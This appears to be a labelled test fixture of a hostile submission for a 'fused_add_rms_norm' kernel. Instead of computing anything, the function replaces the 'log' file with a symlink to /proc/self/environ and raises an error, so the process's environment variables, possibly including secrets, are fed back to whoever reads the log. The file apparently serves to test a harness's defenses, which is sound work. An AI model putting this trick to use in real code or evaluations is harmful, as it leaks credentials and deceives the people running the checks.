# fault: puts a link to the environment of the reader in the place of its log, which is fed back
# op: fused_add_rms_norm
# device: cpu
# outcome: runtime_error
# caught: runs
import os


def fused_add_rms_norm(input, residual, weight, epsilon):
    os.unlink("log")
    os.symlink("/proc/self/environ", "log")
    raise RuntimeError("see the log")
